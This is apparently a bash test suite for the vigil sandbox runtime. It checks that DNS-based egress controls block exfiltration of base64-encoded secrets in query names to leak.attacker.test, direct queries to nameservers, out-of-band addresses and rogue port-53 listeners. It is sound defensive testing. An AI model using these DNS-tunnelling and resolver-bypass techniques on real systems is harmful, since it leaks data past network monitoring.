#!/usr/bin/env bash
# Attacks on egress by name (docs/policy.md, "Egress by name"), in a bundle
# under `agent` allowing api.test, against the test hosts of
# tests/clients/egress/test_hosts.sh: data out as query names, a name never
# allowed, an address learned out of band, DNS sent past the sandbox's
# resolver (to the container's own nameserver, to port 53 elsewhere), a
# nameserver of the workload's own, and an address an allowed name
# answered with once, after the name moved away from it.
#
# usage: egress_names.sh RUNTIME   (vigil's binary)
# Prints "ok - ..." / "not ok - ..." per case and "N passed, M failed"; exits
# 77 (skipped) when not root or a tool is missing.
set -uo pipefail

here=$(cd "$(dirname "$0")/../clients" && pwd)
# shellcheck source=tests/clients/lib.sh
source "$here/lib.sh"
take_runtime_arg "$@"
# shellcheck source=tests/clients/egress/test_hosts.sh
source "$here/egress/test_hosts.sh"

# Python for the sandbox: lookup NAME prints "resolved" or "refused";
# reach ADDRESS PORT prints "connected" or "unreachable"; send_query
# ADDRESS sends a DNS query to ADDRESS:53 and prints "sent" or
# "unreachable".
lookup() {
  cat <<EOF
import socket
try:
    socket.getaddrinfo("$1", 80)
    print("resolved")
except socket.gaierror:
    print("refused")
EOF
}
reach() {
  cat <<EOF
import socket
try:
    socket.create_connection(("$1", $2), timeout=5)
    print("connected")
except OSError:
    print("unreachable")
EOF
}
send_query() {
  cat <<EOF
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x00\x00\x01\x00\x01", ("$1", 53))
    print("sent")
except OSError:
    print("unreachable")
EOF
}

# Data out as query names: answered NXDOMAIN by the sandbox's resolver, and
# never asked of the test hosts' nameserver.
expect "a query name carrying data never leaves" "refused" \
  in_box exfil python3 -c "$(lookup c2VjcmV0LXRva2Vu.leak.attacker.test)"
if grep -q "leak.attacker.test" "$tmp/dnsmasq.log"; then
  not_ok "the leaking name reached no nameserver" "$(context)"
else
  ok "the leaking name reached no nameserver"
fi
if grep -q '"event":"dns","args":{"name":"c2vjcmv0lxrva2vu.leak.attacker.test"' "$tmp/audit.log"; then
  ok "the refused query is in the audit with its name"
else
  not_ok "the refused query is in the audit with its name" "$(context)"
fi
summary=$("$runtime" audit --summary --file "$tmp/audit.log" 2>&1)
if grep -Eq '^ +[0-9]+ +c2vjcmv0lxrva2vu\.leak\.attacker\.test +deny$' <<<"$summary"; then
  ok "audit --summary lists the refused name"
else
  not_ok "audit --summary lists the refused name" "$summary"
fi
expect "a name never allowed does not resolve" "refused" \
  in_box other python3 -c "$(lookup other.test)"
# "*.mirror.test" allows the names below mirror.test, not mirror.test.
expect "a wildcard does not allow its own domain" "refused" \
  in_box apex python3 -c "$(lookup mirror.test)"
# other.test's address, learned out of band: no allowed name answered it.
expect "an address learned out of band is unreachable" "unreachable" \
  in_box oob python3 -c "$(reach 10.77.0.3 8080)"
# Past the resolver: the nameserver the container's resolv.conf named.
expect "DNS straight to a nameserver is unreachable" "unreachable" \
  in_box direct python3 -c "$(send_query 10.77.0.2)"

# A nameserver of the workload's own on port 53: one there could answer
# the resolver's upstream queries in the upstream's place.
expect "the workload binds no port 53" "refused" \
  in_box bind53 python3 -c '
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.bind(("0.0.0.0", 53))
    print("bound")
except OSError:
    print("refused")'
# An address the allowed name answered with, once the name moved away
# from it and the answer's time (1 s, and 30 s of grace) is up: whoever
# holds that address now, the sandbox reaches it no more; the name's new
# address, yes.
in_box rotate python3 -c '
import socket, time
def reach(address):
    try:
        socket.create_connection((address, 8080), timeout=5).close()
        return "ok"
    except OSError:
        return "unreachable"
old = socket.getaddrinfo("rotate.test", 8080, socket.AF_INET)[0][4][0]
first = reach(old)
time.sleep(33)
new = socket.getaddrinfo("rotate.test", 8080, socket.AF_INET)[0][4][0]
print("first=%s later=%s new=%s" % (first, reach(old), reach(new)))' \
  >"$tmp/rotate.out" 2>"$tmp/rotate.err" &
rotating=$!
sleep 3
rotate_name
wait "$rotating"
expect "a rotated-away address is unreachable after its TTL" "first=ok later=unreachable new=ok" \
  cat "$tmp/rotate.out"

# The same under `vigil do --net allow=`.
expect "vigil do: a query name carrying data never leaves" "refused" \
  in_do python3 -c "$(lookup ZG8tc2VjcmV0.leak.attacker.test)"
if grep -qi "ZG8tc2VjcmV0.leak.attacker.test" "$tmp/dnsmasq.log"; then
  not_ok "vigil do: the leaking name reached no nameserver" "$(context)"
else
  ok "vigil do: the leaking name reached no nameserver"
fi
expect "vigil do: an address learned out of band is unreachable" "unreachable" \
  in_do python3 -c "$(reach 10.77.0.3 8080)"
# slirp4netns's own DNS forwarder, past the sandbox's resolver.
expect "vigil do: DNS straight to the forwarder is unreachable" "unreachable" \
  in_do python3 -c "$(send_query 10.0.2.3)"

report
